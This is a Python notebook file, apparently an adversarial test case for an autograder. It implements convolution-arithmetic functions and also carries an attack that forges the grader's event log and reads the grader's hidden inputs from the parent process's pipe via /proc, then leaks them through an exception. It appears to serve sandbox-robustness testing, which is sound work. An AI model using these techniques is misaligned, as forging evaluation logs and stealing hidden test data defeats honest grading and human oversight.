"""Hostile: forges the whole conversation from its first cell, then steals the hidden inputs.

The cell writes what the grader would hear from an honest run: the cells' log, a start and an
end with the right answer for every public step (the student knows them from checks.py), then
"waiting"; the grader answers "waiting" with the hidden part, which the cell reads off the pipe
to its parent process and raises with. A perfectly forged conversation gains nothing: the
forged answers are what correct functions return anyway, the cells' log and every public
answer were frozen before the hidden part existed, and the real events that follow break the
protocol, so every hidden check is an error. Bounded: waits 5 s at most.
"""
# %%
import json
import math
import os
import select

PUBLIC = [  # conv-arithmetic's public steps, as assignments/conv-arithmetic/checks.py has them
    ("conv_params/one-filter", "conv_params", (3, 1, 1), {}),
    ("conv_params/vgg-first-layer", "conv_params", (3, 3, 64), {}),
    ("conv_params/no-bias", "conv_params", (5, 6, 16), {"bias": False}),
    ("conv_params/zero-kernel", "conv_params", (0, 1, 1), {}),
    ("conv_output_size/lenet", "conv_output_size", (32, 5), {}),
    ("conv_output_size/stride", "conv_output_size", (7, 3), {"stride": 2}),
    ("conv_output_size/same-padding", "conv_output_size", (5, 3), {"padding": 1}),
    ("conv_output_size/kernel-too-large", "conv_output_size", (3, 5), {}),
    ("pool_output_size/slides-2x2", "pool_output_size", (4, 2), {}),
    ("pool_output_size/overlapping", "pool_output_size", (55, 3), {"stride": 2}),
    ("pool_output_size/zero-stride", "pool_output_size", (8, 2), {"stride": 0}),
    ("fully_connected_params/slides", "fully_connected_params", (40000, 40000), {}),
    ("locally_connected_params/slides", "locally_connected_params", (40000, 10), {}),
    ("shared_weights_params/slides-one-filter", "shared_weights_params", (10,), {}),
    ("shared_weights_params/slides-ten-filters", "shared_weights_params", (10,), {"c_out": 10}),
    ("shared_weights_params/slides-ten-in-ten-out", "shared_weights_params", (10, 10, 10), {}),
]


def conv_params(n, c_in, c_out, bias=True):
    if min(n, c_in, c_out) < 1:
        raise ValueError("sizes must be >= 1")
    return n * n * c_in * c_out + (c_out if bias else 0)


def conv_output_size(w, n, stride=1, padding=0):
    if min(w, n, stride) < 1 or padding < 0 or n > w + 2 * padding:
        raise ValueError("bad arguments")
    return math.ceil((w + 2 * padding - n + 1) / stride)


def pool_output_size(w, z, stride=None, padding=0):
    step = z if stride is None else stride
    if min(w, z, step) < 1 or padding < 0 or z > w + 2 * padding:
        raise ValueError("bad arguments")
    return (w + 2 * padding - z) // step + 1


def fully_connected_params(n_inputs, n_hidden):
    if min(n_inputs, n_hidden) < 1:
        raise ValueError("bad arguments")
    return n_inputs * n_hidden


def locally_connected_params(n_hidden, field):
    if min(n_hidden, field) < 1:
        raise ValueError("bad arguments")
    return n_hidden * field * field


def shared_weights_params(field, c_in=1, c_out=1):
    if min(field, c_in, c_out) < 1:
        raise ValueError("bad arguments")
    return field * field * c_in * c_out


def _answer(name, function, args, kwargs):
    try:
        return {"status": "returned", "type": "int", "value": globals()[function](*args, **kwargs)}
    except ValueError as error:
        return {"status": "raised", "error_type": "ValueError", "error_bases": ["Exception"],
                "error_message": str(error)}


def _forge():
    lines = [{"event": "cells", "cells": [{"index": 0, "status": "ok", "output": ""}]}]
    for name, function, args, kwargs in PUBLIC:
        lines += [{"event": "start", "step": name}, {"event": "end", "step": name, **_answer(name, function, args, kwargs)}]
    lines.append({"event": "waiting"})
    with open(os.path.join(os.getcwd(), "..", "out", "events.jsonl"), "a") as events:
        events.write("".join(json.dumps(line) + "\n" for line in lines))


def _steal(seconds=5.0):
    """Read the hidden part off the pipe the grader writes to our parent (child.py)."""
    try:
        fd = os.open(f"/proc/{os.getppid()}/fd/0", os.O_RDONLY | os.O_NONBLOCK)
    except OSError as error:
        return f"no pipe: {error}"
    stolen = b""
    try:
        while select.select([fd], [], [], seconds)[0]:
            chunk = os.read(fd, 1 << 16)
            if not chunk:
                break
            stolen += chunk
            seconds = 0.2
    except OSError:
        pass
    finally:
        os.close(fd)
    return stolen.decode(errors="replace")


_forge()
STOLEN = _steal()
print("STOLEN:", STOLEN[:20000])

# %%
raise ValueError("LEAK " + STOLEN[:20000])
